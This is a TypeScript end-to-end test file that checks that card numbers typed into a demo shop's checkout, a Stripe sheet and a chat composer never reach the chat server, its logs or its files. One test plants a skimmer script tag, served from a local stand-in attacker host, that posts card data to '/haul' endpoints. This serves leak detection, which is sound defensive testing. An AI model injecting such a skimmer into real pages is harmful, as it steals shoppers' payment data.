/**
 * Where card numbers go, byte by byte: all that the browser sends, all that reaches the chat server,
 * its log and every file that it keeps. Each number is typed in one place only, so that each can be
 * told apart, and a conventional skimmer on the same shop shows that the recorders would have seen it.
 */
import type { Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createShop } from '../../demo-site/shop/server.ts';
import { ASK_SECURE_PAYMENT } from '../../protocol/phrases.ts';
import { type Attacker, skimmer, startAttacker } from '../support/attacker.ts';
import { type PlantedCard, tracesIn } from '../support/card-traces.ts';
import { type CheckoutDetails, fillCheckout } from '../support/checkout.ts';
import { type RecordedVoyage, startRecordedVoyage } from '../support/recorded-voyage.ts';
import type { Visitor } from '../support/voyage.ts';

const CARDS = {
  checkout: { number: '5267 3198 4471 6036', cvc: '931' },
  declined: { number: '4716 9203 8857 3145', cvc: '846' },
  paid: { number: '4000 0566 5566 5556', cvc: '718' },
  composer: { number: '3536 8920 7416 5827', cvc: '264' },
} satisfies Record<string, PlantedCard>;
/** Found by the same search: what else the checkout asks for, at places of its own. */
const CHECKOUT: CheckoutDetails = {
  ...CARDS.checkout,
  name: 'Ophelia Quillfeather',
  street: '17 Larkspur Quay',
};
const QUESTION = 'Is the lantern oil included?';
const ANSWER = 'It is, half a litre of it.';

let attacker: Attacker;
let voyage: RecordedVoyage;
const hostOf = (url: string) => new URL(url).host;
const sentTo = (url: string) => voyage.visitors.sentTo(hostOf(url));
const traces = (bytes: Buffer) => tracesIn(bytes, CARDS);

beforeAll(async () => {
  [voyage, attacker] = await Promise.all([startRecordedVoyage(), startAttacker()]);
}, 60_000);
afterAll(async () => {
  await voyage?.close();
  await attacker?.close();
});

/** Key by key, as a person does and as a key logger would hear it. */
async function typeCard({ card }: Visitor, { number, cvc }: PlantedCard) {
  for (const [label, value] of [
    ['Card number', number],
    ['Expiration date', '1234'],
    ['CVC', cvc],
  ] as const) {
    await card.getByLabel(label).fill('');
    await card.getByLabel(label).pressSequentially(value);
  }
}

/** Everything that the page and its frames keep in the browser. */
async function storageOf(page: Page): Promise<Buffer> {
  return Buffer.from(JSON.stringify(await page.context().storageState({ indexedDB: true })));
}

describe('card data', { timeout: 60_000 }, () => {
  const kept: Map<string, Buffer>[] = [];

  it('is typed into the checkout, the sheet and the composer', async () => {
    const agent = await voyage.answer();
    const visitor = await voyage.visit('/checkout');
    await visitor.openChat();
    await visitor.send(QUESTION);
    await agent.openFirst();
    await agent.log.getByText(QUESTION).waitFor();
    await agent.send(ANSWER);
    await visitor.log.getByText(ANSWER).waitFor();
    await agent.log.getByText('Seen').waitFor();

    // With the chat open beside it, its own checkout.
    expect(await voyage.saidDuring(() => fillCheckout(visitor.page, CHECKOUT))).toEqual([]);
    await visitor.page.getByRole('button', { name: /^Pay €/ }).click();
    await visitor.page.waitForURL('**/thank-you');

    // The sheet: a decline, then a success.
    await agent.requestPayment('49.00', 'Brass lantern');
    await visitor.payButton.click();
    const pay = visitor.sheet.getByRole('button', { name: /^Pay/ });
    // Only then has Stripe's frame asked all that it has to ask.
    await pay.click({ trial: true });
    expect(await voyage.saidDuring(() => typeCard(visitor, CARDS.declined))).toEqual([]);
    await pay.click();
    await visitor.sheet.getByText(/declined/i).waitFor();
    expect(await voyage.saidDuring(() => typeCard(visitor, CARDS.paid))).toEqual([]);
    await pay.click();
    await visitor.log.getByText('Paid').first().waitFor();
    await agent.log.getByText('Paid').first().waitFor();

    // [CARD-2] The composer stops what it is given.
    const message = visitor.chat.getByRole('textbox', { name: 'Message' });
    await message.pressSequentially(`${CARDS.composer.number} cvc ${CARDS.composer.cvc}`);
    await message.press('Enter');
    await visitor.chat.getByRole('alert').waitFor();
    await visitor.chat.getByRole('button', { name: 'Send', exact: true }).click();
    await visitor.chat.getByRole('button', { name: 'Ask for a secure payment' }).click();
    await agent.log.getByText(ASK_SECURE_PAYMENT).waitFor();

    kept.push(await voyage.keptFiles());
    // What a page says on its way out belongs to it.
    await visitor.page.reload();
    await visitor.log.getByText('Paid').first().waitFor();
    const storage = await storageOf(visitor.page);
    expect(storage.toString()).toContain('bv1.');
    // The guard knows numbers only; what else a draft holds is kept [PORT-6].
    expect(traces(storage)).toEqual([]);
    await visitor.page.context().close();
    await agent.page.context().close();
  });

  it('leaves the browser for the shop, from its own form, and for Stripe, from the sheet', () => {
    const { shop, stripe } = voyage.demo.urls;
    expect(traces(sentTo(shop))).toEqual(['checkout number', 'checkout cvc']);
    expect(sentTo(shop).toString()).toMatch(/POST \S+\/checkout\r\n[\s\S]*Ophelia\+Quillfeather/);
    expect(traces(sentTo(stripe))).toEqual([
      'declined number',
      'declined cvc',
      'paid number',
      'paid cvc',
    ]);
    expect(voyage.demo.stripe?.control.receivedCardNumbers()).toEqual([
      '4716920388573145',
      '4000056655665556',
    ]);
  });

  it('[CARD-2] leaves it for nowhere else', () => {
    const { shop, stripe, chat } = voyage.demo.urls;
    expect(voyage.agents.hosts()).toContain(hostOf(chat));
    for (const host of voyage.agents.hosts()) {
      expect([host, traces(voyage.agents.sentTo(host))]).toEqual([host, []]);
    }
    const others = voyage.visitors
      .hosts()
      .filter((host) => ![shop, stripe].map(hostOf).includes(host));
    expect(others).toContain(hostOf(chat));
    for (const host of others) {
      const sent = voyage.visitors.sentTo(host);
      expect([host, traces(sent)]).toEqual([host, []]);
      expect(sent.toString()).not.toMatch(/Quillfeather|Larkspur/);
    }
    // The same recorder reads what the socket carries.
    expect(sentTo(chat).toString()).toMatch(/upgrade: websocket/i);
    expect(sentTo(chat).toString()).toContain(QUESTION);
    expect(sentTo(chat).toString()).toContain(ASK_SECURE_PAYMENT);
    expect(voyage.agents.sentTo(hostOf(chat)).toString()).toContain(ANSWER);
  });

  it('would be seen if a conventional tag of a breached vendor were on the same page', async () => {
    const { chat } = voyage.demo.urls;
    const card = { number: '2223 0031 2200 3222', cvc: '573' };
    attacker.serve('/widget.js', skimmer([`${attacker.url}/haul`, `${chat}/api/haul`]));
    const tag = `<script async src="${attacker.url}/widget.js"></script>`;
    const shop = await createShop({ host: 'localhost', tag });
    const visitor = await voyage.visit(`${shop.url}/checkout`);
    await visitor.page.waitForLoadState();
    const fill = () => fillCheckout(visitor.page, { ...CHECKOUT, ...card });
    expect(await voyage.saidDuring(fill)).not.toEqual([]);
    const places = [
      attacker.stolen,
      voyage.arrived,
      () => sentTo(attacker.url),
      () => sentTo(chat),
    ];
    for (const place of places) {
      const found = () => tracesIn(place(), { skimmed: card });
      await expect.poll(found, { timeout: 20_000 }).toEqual(['skimmed number', 'skimmed cvc']);
    }
    await visitor.page.context().close();
    await shop.close();
  });

  it('[CARD-2] reaches neither the chat server, nor its log, nor any file of it', async () => {
    await voyage.demo.close();
    kept.push(await voyage.keptFiles());
    const arrived = voyage.arrived();
    expect(arrived.toString()).toContain(QUESTION);
    expect(traces(arrived)).toEqual([]);
    const log = voyage.logged();
    expect(log).toContain('/api/payments/open');
    expect(traces(Buffer.from(log))).toEqual([]);
    const [running, closed] = kept;
    expect([...(running?.keys() ?? [])]).toContain('bulkhead.db-wal');
    expect(closed?.get('bulkhead.db')?.includes(QUESTION)).toBe(true);
    for (const [name, bytes] of [...(running ?? []), ...(closed ?? [])]) {
      expect([name, traces(bytes)]).toEqual([name, []]);
      expect(bytes.toString()).not.toMatch(/Quillfeather|Larkspur/);
    }
  });
});
